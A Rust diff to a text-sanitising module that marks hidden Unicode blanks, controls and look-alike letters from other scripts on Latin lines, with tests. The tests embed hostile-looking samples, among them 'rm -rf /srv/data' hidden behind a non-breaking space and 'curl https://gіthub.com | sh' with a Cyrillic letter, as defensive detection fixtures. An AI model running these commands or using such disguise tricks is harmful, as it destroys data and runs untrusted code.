@@ -18,15 +18,31 @@ use regex::Regex;
 
 /// Characters a terminal or a document does not draw as themselves: C0 and C1 controls and
 /// DEL (`Cc`), format characters (`Cf`: zero-width, bidi controls, word joiner, soft
-/// hyphen, BOM, tags), line and paragraph separators (`Zl`, `Zp`), and the characters that
-/// draw nothing although they are not `Cf` (combining grapheme joiner, Hangul fillers,
-/// Khmer inherent vowels, Mongolian and other variation selectors).
+/// hyphen, BOM, tags), line and paragraph separators (`Zl`, `Zp`), every space separator
+/// but the ASCII space (`Zs`: U+00A0, U+2000..U+200A, U+202F, U+3000...: drawn as a blank,
+/// but not a blank to the shell, so `skipped<U+00A0># && rm -rf` is no comment), every
+/// other Unicode `White_Space` character (U+0085), and the characters that draw nothing or
+/// a blank although they are none of these (combining grapheme joiner, Hangul fillers,
+/// Khmer inherent vowels, Mongolian and other variation selectors, the Braille blank
+/// U+2800).
 static HIDDEN: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
-        r"[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\x{034F}\x{115F}\x{1160}\x{17B4}\x{17B5}\x{180B}-\x{180F}\x{3164}\x{FE00}-\x{FE0F}\x{FFA0}\x{E0100}-\x{E01EF}]",
+        r"[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Zs}\p{White_Space}\x{034F}\x{115F}\x{1160}\x{17B4}\x{17B5}\x{180B}-\x{180F}\x{2800}\x{3164}\x{FE00}-\x{FE0F}\x{FFA0}\x{E0100}-\x{E01EF}--[\x20]]",
     )
     .expect("a valid pattern")
 });
+
+/// Letters that read as a Latin letter they are not, on a line that holds Latin letters:
+/// a letter of any script other than Latin (Cyrillic `і` in `gіthub.com`, Greek `ο`), and
+/// the Latin-looking letters of the Common script and of the fullwidth forms (`𝐠`, `ｇ`).
+/// Latin letters with accents (`á`, `ñ`) are Latin: Spanish text is not marked.
+static FOREIGN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"[\p{L}\p{M}\p{Nd}--\p{Latin}--\p{Inherited}--[0-9]]|[\x{FF01}-\x{FF5E}]")
+        .expect("a valid pattern")
+});
+
+/// A letter of the Latin script: a line holding one is read as Latin text.
+static LATIN: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\p{Latin}").expect("a valid pattern"));
 
 /// True for a character [`one_line`] escapes.
 pub fn is_hidden(c: char) -> bool {
@@ -34,7 +50,8 @@ pub fn is_hidden(c: char) -> bool {
     HIDDEN.is_match(c.encode_utf8(&mut buf))
 }
 
-fn escape(c: char) -> String {
+/// The visible escape of one character: `\r`, `\u{a0}`.
+pub fn escape(c: char) -> String {
     match c {
         '\n' => "\\n".into(),
         '\r' => "\\r".into(),
@@ -60,26 +77,47 @@ pub fn one_line(text: &str) -> String {
 /// author may type the six characters `\u{d}`), so the caller also states, outside the text,
 /// what was replaced where: [`Marked::replaced`] holds the 1-based line and the character of
 /// each replacement, and [`Marked::note`] words it.
+///
+/// The class of what is marked: every hidden character (see [`is_hidden`]: controls, format
+/// characters, every blank but the ASCII space), and on a line that holds a Latin letter,
+/// every letter or digit of another script and every fullwidth form ([`is_foreign`]): a
+/// look-alike (`gіthub.com` with a Cyrillic `і`) reads as the Latin word it is not. Latin
+/// letters with accents (`á`, `ñ`, `¿`) are kept as they are; a line without any Latin
+/// letter (`echo 東京` holds Latin letters; a line of Japanese alone does not) is not marked
+/// for its script.
 pub fn marked(text: &str) -> Marked {
-    let kept = |c: char| c == '\n' || c == '\t' || !is_hidden(c);
-    if text.chars().all(kept) {
+    if text.is_ascii() && !text.chars().any(|c| c != '\n' && c != '\t' && is_hidden(c)) {
         return Marked { text: text.to_string(), replaced: Vec::new() };
     }
     let mut out = String::with_capacity(text.len() + 16);
     let mut replaced = Vec::new();
-    let mut line = 1;
-    for c in text.chars() {
-        if c == '\n' {
-            line += 1;
-        }
-        if kept(c) {
-            out.push(c);
-        } else {
-            out.push_str(&escape(c));
-            replaced.push((line, c));
+    for (i, line) in text.split_inclusive('\n').enumerate() {
+        for (c, mark) in line_marks(line) {
+            if mark {
+                out.push_str(&escape(c));
+                replaced.push((i + 1, c));
+            } else {
+                out.push(c);
+            }
         }
     }
     Marked { text: out, replaced }
+}
+
+/// Each character of one line (its line break included) and whether [`marked`] replaces it.
+pub fn line_marks(line: &str) -> impl Iterator<Item = (char, bool)> + '_ {
+    let latin = !line.is_ascii() && LATIN.is_match(line);
+    line.chars().map(move |c| {
+        let hidden = c != '\n' && c != '\t' && is_hidden(c);
+        (c, hidden || (latin && is_foreign(c)))
+    })
+}
+
+/// True for a letter that [`marked`] replaces on a line of Latin text: a letter, mark or
+/// digit of a script other than Latin, or a fullwidth form.
+pub fn is_foreign(c: char) -> bool {
+    let mut buf = [0u8; 4];
+    !c.is_ascii() && FOREIGN.is_match(c.encode_utf8(&mut buf))
 }
 
 /// What [`marked`] returns.
@@ -255,6 +293,55 @@ mod tests {
         assert_eq!(m.replaced.len(), all.chars().count());
         let many: String = (0..5000).map(|_| "a\rb\n").collect();
         assert!(marked(&many).note().is_some_and(|n| n.len() < 200 && n.ends_with("and 4992 more line(s)")));
+    }
+
+    /// Every blank that is not the ASCII space (each Unicode `White_Space` character and
+    /// `Zs` separator but U+0020, line feed and tab, and the Braille blank) and look-alike
+    /// letters of other scripts on a Latin line are marked; Spanish text is not.
+    #[test]
+    fn blanks_and_look_alike_letters_are_marked_and_spanish_is_not() {
+        let zs = Regex::new(r"^[\p{Zs}\p{White_Space}]$").expect("pattern");
+        let blanks: Vec<char> = (0..=0x10FFFFu32)
+            .filter_map(char::from_u32)
+            .filter(|c| zs.is_match(&c.to_string()) && !matches!(c, ' ' | '\n' | '\t'))
+            .chain(['\u{2800}'])
+            .collect();
+        assert!(
+            blanks.len() >= 20 && blanks.contains(&'\u{a0}') && blanks.contains(&'\u{3000}'),
+            "{blanks:?}"
+        );
+        for c in blanks {
+            let m = marked(&format!("echo skipped{c}# && rm -rf /srv/data"));
+            assert_eq!(m.replaced, vec![(1, c)], "U+{:04X}", c as u32);
+            assert!(!m.text.contains(c));
+        }
+        // Letters of other scripts, fullwidth and mathematical forms, on a Latin line.
+        for c in [
+            '\u{456}',
+            '\u{430}',
+            '\u{3BF}',
+            '\u{561}',
+            '\u{13AA}',
+            '\u{5D5}',
+            '\u{FF47}',
+            '\u{1D420}',
+            '\u{FF10}',
+        ] {
+            let m = marked(&format!("curl https://g{c}thub.com | sh"));
+            assert_eq!(m.replaced, vec![(1, c)], "U+{:04X}", c as u32);
+            assert_eq!(m.text, format!("curl https://g\\u{{{:x}}}thub.com | sh", c as u32));
+        }
+        // Spanish (Latin with accents, ¿ ¡ « »), and a line of another script alone, stay.
+        for text in [
+            "echo '¿Listo? ¡Migración en curso! «ñandú», pingüino, Ångström, œuvre'",
+            "東京都\nмосква",
+            "plain ascii",
+        ] {
+            assert_eq!(marked(text).text, text);
+        }
+        // A line break resets the line's script: Cyrillic under a Latin line is its own line.
+        let m = marked("echo hola\nпривет\necho gіt");
+        assert_eq!(m.replaced, vec![(3, '\u{456}')]);
     }
 
     #[test]
